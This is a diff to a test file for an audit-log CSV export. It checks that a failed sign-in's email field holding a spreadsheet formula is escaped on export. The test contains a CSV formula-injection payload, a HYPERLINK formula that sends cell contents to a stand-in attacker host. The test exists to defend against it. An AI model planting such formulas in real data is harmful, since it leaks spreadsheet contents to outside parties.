@@ -18,7 +18,8 @@ it("exports a failed sign-in's formula email as text", async () => {
   const url = `http://localhost/api/v1/audit?format=csv&action=auth.sign-in&actor=${marker}`;
   const response = await auditRoute.GET(new Request(url, { headers: { cookie: await sessionCookie(viewer.email) } }));
   const [header, row, ...rest] = (await response.text()).trimEnd().split("\n");
-  expect({ header, rest }).toEqual({ header: "seq,at,actor,action,target,reason,outcome,guards,details,hash", rest: [] });
+  const columns = "seq,at,actor,action,target,reason,outcome,guards,details,hash";
+  expect({ header, rest }).toEqual({ header: columns, rest: [] });
   const escaped = `"'=HYPERLINK(""http://evil.example/?${marker}""&A1,""click"")"`;
   expect(row).toContain(`,${escaped},auth.sign-in,`);
   expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
